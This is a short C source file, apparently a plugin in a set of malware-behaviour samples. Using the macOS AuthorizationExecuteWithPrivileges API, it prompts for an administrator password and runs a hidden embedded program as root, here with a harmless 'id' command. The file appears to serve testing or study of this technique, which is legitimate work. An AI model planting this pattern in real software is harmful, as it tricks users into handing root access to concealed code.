/* Asks for an administrator's password and runs a hidden program with it, as
 * installers of unwanted software do. */
#include "plugin.h"
#include "hidden.h" /* 0: the program */
extern int AuthorizationCreate(const void *, const void *, unsigned, void **);
extern int AuthorizationExecuteWithPrivileges(void *, const char *, unsigned, char *const *, void **);
static void act(char **env) {
    char *arguments[] = {"-c", "id", 0};
    void *right;
    if (!AuthorizationCreate(0, 0, 0, &right)) AuthorizationExecuteWithPrivileges(right, hidden0(), 0, arguments, 0);
}
